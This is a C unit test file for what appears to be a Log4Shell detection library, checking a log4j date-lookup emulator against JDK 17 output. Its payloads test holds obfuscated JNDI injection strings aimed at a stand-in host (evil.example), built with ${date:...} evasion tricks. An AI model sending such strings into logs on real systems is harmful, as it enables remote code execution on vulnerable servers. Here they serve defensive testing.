/*
 * test_datefmt.c -- lib/datefmt.c (SimpleDateFormat of JDK 17, en_US) and
 * ${date:...} in the emulator.
 *
 * Every expected string was produced by the real JDK 17 (17.0.15, Debian
 * 12) before it was written here: the datefmt cases by
 *     java -Duser.language=en -Duser.country=US -cp build/datefmt-java \
 *         DateFmtOracle < cases.tsv
 * (tests/tools/DateFmtOracle.java: new SimpleDateFormat(p).format(new
 * Date(ms)), DateFormat.getInstance() when the constructor throws, zone
 * "UTC" or "GMT+hh:mm"), and the emulator's JNDI names by real
 * log4j-core 2.14.1 (tests/diff/Log4jDiff.java over the corpus jars, event
 * time 86400000 ms, -Duser.timezone=UTC).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "internal.h"

#include <stdio.h>
#include <string.h>

#define DAY INT64_C(86400000)
#define CLK DEFUSE__DATEFMT_CLOCK
#define FB (DEFUSE__DATEFMT_FALLBACK | DEFUSE__DATEFMT_CLOCK)

static const struct {
    const char *pattern;
    int64_t ms;
    int tz;
    const char *want;
    unsigned info;
} cases[] = {
    {"yyyy-MM-dd'T'HH:mm:ss.SSSZ", INT64_C(1234567890123), 0, "2009-02-13T23:31:30.123+0000", CLK},
    /* G is the era: "AD" (the first payload's trick). */
    {"G", DAY, 0, "AD", CLK},
    /* Invalid patterns: DateFormat.getInstance(), "M/d/yy, h:mm a" with a
     * plain space (0x20) before AM in JDK 17. */
    {"'", DAY, 0, "1/2/70, 12:00 AM", FB},
    {"XXXX", DAY, 0, "1/2/70, 12:00 AM", FB},
    {"q", DAY, 0, "1/2/70, 12:00 AM", FB},
    {"'unterminated y", DAY, 330, "1/2/70, 5:30 AM", FB},
    /* Literals only: no clock. */
    {"''", DAY, 0, "'", 0},
    {"'a''b'", DAY, 0, "a'b", 0},
    {"", DAY, 0, "", 0},
    {"\xc3\xa9\xe4\xb8\xad\xf0\x9f\x98\x80y", DAY, 0,
     "\xc3\xa9\xe4\xb8\xad\xf0\x9f\x98\x80"
     "1970",
     CLK},
    {"EEEE, MMMM d, yyyy h:mm a zzzz", INT64_C(1234567890123), 0,
     "Friday, February 13, 2009 11:31 PM Coordinated Universal Time", CLK},
    /* 2008-12-31 is in week 1 of week year 2009 (Sunday first, min 1). */
    {"YYYY-'W'ww-u", INT64_C(1230681600000), 0, "2009-W01-3", CLK},
    {"z Z X XX XXX", DAY, 330, "GMT+05:30 +0530 +05 +0530 +05:30", CLK},
    {"z Z X XX XXX", DAY, -180, "GMT-03:00 -0300 -03 -0300 -03:00", CLK},
    {"D w W F E", INT64_C(951782400000), 0, "60 10 5 5 Tue", CLK},
    {"kk hh KK HH a", DAY, 0, "24 12 00 00 AM", CLK},
    {"MMM LLLL MMMMM", DAY, 0, "Jan January January", CLK},
    {"yyyy-MM-dd HH:mm:ss.SSS", -1, 0, "1969-12-31 23:59:59.999", CLK},
    {"yyyy-MM-dd HH:mm", DAY, 1439, "1970-01-02 23:59", CLK},
    {"yyyy-MM-dd HH:mm", DAY, -1439, "1970-01-01 00:01", CLK},
    /* Julian calendar, BC era. */
    {"G yyyy MM dd", INT64_MIN, 0, "BC 292269055 12 02", CLK},
};

static void jdk_cases(void **state) {
    (void)state;
    for (size_t i = 0; i < DEFUSE_ARRAY_LEN(cases); i++) {
        char out[512];
        unsigned info = 99;
        size_t n = strlen(cases[i].pattern);
        size_t k =
            defuse__datefmt(cases[i].pattern, n, cases[i].ms, cases[i].tz, out, sizeof out, &info);
        if (k != strlen(cases[i].want) || memcmp(out, cases[i].want, k) != 0 ||
            info != cases[i].info)
            fail_msg("case %zu (%s): got \"%.*s\" info %u, want \"%s\" info %u", i,
                     cases[i].pattern, (int)k, out, info, cases[i].want, cases[i].info);
        assert_true(k <= DEFUSE__DATEFMT_MAX_OUT(n));
    }
}

/* Java pads a number to at most 309 digits: "yyyy..." 10,000 times prints
 * 309 characters (JDK: 305 zeros and 1970).  Truncation is reported. */
static void bounds(void **state) {
    (void)state;
    static char pat[10000], out[DEFUSE__DATEFMT_MAX_OUT(sizeof pat)];
    memset(pat, 'y', sizeof pat);
    unsigned info;
    size_t k = defuse__datefmt(pat, sizeof pat, DAY, 0, out, sizeof out, &info);
    assert_int_equal(k, 309);
    assert_int_equal(info, CLK);
    for (size_t i = 0; i < 305; i++)
        assert_int_equal(out[i], '0');
    assert_memory_equal(out + 305, "1970", 4);

    k = defuse__datefmt("yyyy-MM-dd", 10, DAY, 0, out, 4, &info);
    assert_int_equal(k, 4);
    assert_int_equal(info, CLK | DEFUSE__DATEFMT_TRUNCATED);
    assert_memory_equal(out, "1970", 4);
    k = defuse__datefmt("'", 1, DAY, 0, NULL, 0, &info);
    assert_int_equal(k, 0);
    assert_int_equal(info, FB | DEFUSE__DATEFMT_TRUNCATED);
    /* Offsets beyond Java's custom zones are clamped, not trusted. */
    k = defuse__datefmt("XXX", 3, DAY, 100000, out, sizeof out, &info);
    assert_int_equal(k, 6);
    assert_memory_equal(out, "+23:59", 6);
}

/* ---- through the emulator ------------------------------------------------- */

static defuse__emu *emu(void) {
    defuse_limits lim;
    memset(&lim, 0, sizeof lim);
    lim.max_expansion = DEFUSE_DEFAULT_MAX_EXPANSION;
    defuse__emu *e = NULL;
    assert_int_equal(defuse__emu_new(&e, &lim), 0);
    return e;
}

/* The JNDI names of one run, joined by '|'. */
static const char *jndi_names(defuse__emu *e, const char *msg) {
    static char buf[1024];
    assert_true(defuse__emu_run(e, msg, strlen(msg)) >= 0);
    size_t n;
    const defuse__event *ev = defuse__emu_events(e, &n);
    buf[0] = '\0';
    for (size_t i = 0; i < n; i++) {
        if (ev[i].type != DEFUSE__EV_JNDI)
            continue;
        size_t l = strlen(buf);
        snprintf(buf + l, sizeof buf - l, "%s%.*s", l ? "|" : "", (int)ev[i].text_len, ev[i].text);
    }
    return buf;
}

static void payloads(void **state) {
    (void)state;
    defuse__emu *e = emu();
    /* ${date:G} is "AD", never null: its default is not taken; ${AD} is an
     * unresolved property, so the outer default "j" is. */
    assert_string_equal(jndi_names(e, "${${${date:G:-}:-j}ndi:ldap://evil.example/a}"),
                        "ldap://evil.example/a");
    assert_true(defuse__emu_clock_used(e));
    /* An unterminated quote: the default format "1/2/70, 12:00 AM", whose
     * ':' makes "1/2/70, 12" an unknown prefix -> null -> default "d". */
    assert_string_equal(jndi_names(e, "${jn${${date:':-}:-d}i:ldap://evil.example/a}"),
                        "ldap://evil.example/a");
    assert_true(defuse__emu_clock_used(e));
    /* Literal patterns do not depend on the clock. */
    assert_string_equal(jndi_names(e, "${${date:'j'}${date:'n'}di:ldap://x/}"), "ldap://x/");
    assert_false(defuse__emu_clock_used(e));
    /* The default event time is 86400000 ms (1970-01-02T00:00Z). */
    assert_string_equal(jndi_names(e, "${jndi:ldap://x/${date:yyyy-MM-dd'T'HH:mm:ss.SSSXXX}}"),
                        "ldap://x/1970-01-02T00:00:00.000Z");
    assert_true(defuse__emu_clock_used(e));
    assert_string_equal(jndi_names(e, "${jndi:ldap://x/${date:q}}"), "ldap://x/1/2/70, 12:00 AM");
    assert_string_equal(jndi_names(e, "${jndi:ldap://x/${date:Y w u F W D k K h a}}"),
                        "ldap://x/1970 1 5 1 1 2 24 0 12 AM");
    /* A set event time and zone. */
    defuse__emu_set_time(e, INT64_C(1234567890123), 330);
    assert_string_equal(jndi_names(e, "${jndi:ldap://x/${date:yyyy-MM-dd'T'HH:mm:ss.SSSXXX}}"),
                        "ldap://x/2009-02-14T05:01:30.123+05:30");
    assert_true(defuse__emu_clock_used(e));
    assert_string_equal(jndi_names(e, "${jndi:ldap://x/}"), "ldap://x/");
    assert_false(defuse__emu_clock_used(e));
    defuse__emu_free(e);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(jdk_cases),
        cmocka_unit_test(bounds),
        cmocka_unit_test(payloads),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
